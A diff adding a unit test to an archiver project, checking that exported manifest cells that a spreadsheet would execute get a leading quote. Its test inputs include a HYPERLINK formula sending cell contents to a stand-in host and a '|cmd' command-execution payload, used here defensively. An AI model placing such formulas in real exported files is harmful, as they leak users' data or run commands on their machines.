@@ -63,3 +63,13 @@ def test_a_zipped_bag_is_one_folder_named_like_the_file() -> None:
     assert bag_root("/tmp/.zip") == "bag/"
     assert bag_root("a..b.zip") == "a_b/"
     assert bag_root("..zip") == "bag/"
+
+
+def test_manifest_cells_a_spreadsheet_would_run_are_quoted() -> None:
+    from archiver.compliance.export import spreadsheet_safe
+
+    assert spreadsheet_safe('=HYPERLINK("http://evil.example/?x="&A1,"click")').startswith("'=")
+    assert spreadsheet_safe("@SUM(1+1)|cmd") == "'@SUM(1+1)|cmd"
+    assert spreadsheet_safe("-2+3") == "'-2+3" and spreadsheet_safe("\tx") == "'\tx"
+    assert spreadsheet_safe("+14155551234") == "+14155551234"  # a phone number stays as it is
+    assert spreadsheet_safe("CA-123") == "CA-123" and spreadsheet_safe(42) == 42
